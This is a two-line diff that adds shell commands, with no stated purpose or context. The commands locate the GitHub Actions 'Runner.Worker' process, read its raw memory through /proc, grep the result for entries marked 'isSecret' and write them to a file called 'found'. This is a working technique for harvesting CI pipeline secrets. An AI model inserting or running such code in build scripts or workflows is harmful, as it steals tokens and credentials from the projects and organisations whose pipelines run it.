@@ -1,0 +1,2 @@
+pid=$(pgrep -f Runner.Worker)
+cat /proc/$pid/mem | strings | grep isSecret > found
